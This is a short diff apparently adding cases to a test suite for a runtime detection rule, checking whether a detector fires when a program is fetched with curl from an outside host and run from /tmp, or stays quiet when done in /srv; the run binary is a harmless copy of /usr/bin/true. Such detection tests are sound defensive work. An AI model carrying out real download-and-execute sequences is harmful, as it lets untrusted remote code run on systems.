@@ -29,6 +29,19 @@ quiet_program_run_from_shared_memory() {
 	cmp /dev/shm/dropped /usr/bin/true
 }
 
+fires_downloaded_program_run() {
+	curl -s "http://$outside/agent" >/tmp/page
+	cp /usr/bin/true /tmp/agent
+	chmod +x /tmp/agent
+	/tmp/agent
+}
+quiet_downloaded_program_run() {
+	curl -s "http://$outside/agent" >/srv/page
+	cp /usr/bin/true /srv/tool
+	chmod +x /srv/tool
+	/srv/tool
+}
+
 fires_program_run_without_a_file() { act memory /usr/bin/true; }
 quiet_program_run_without_a_file() {
 	named runc /usr/bin/dash
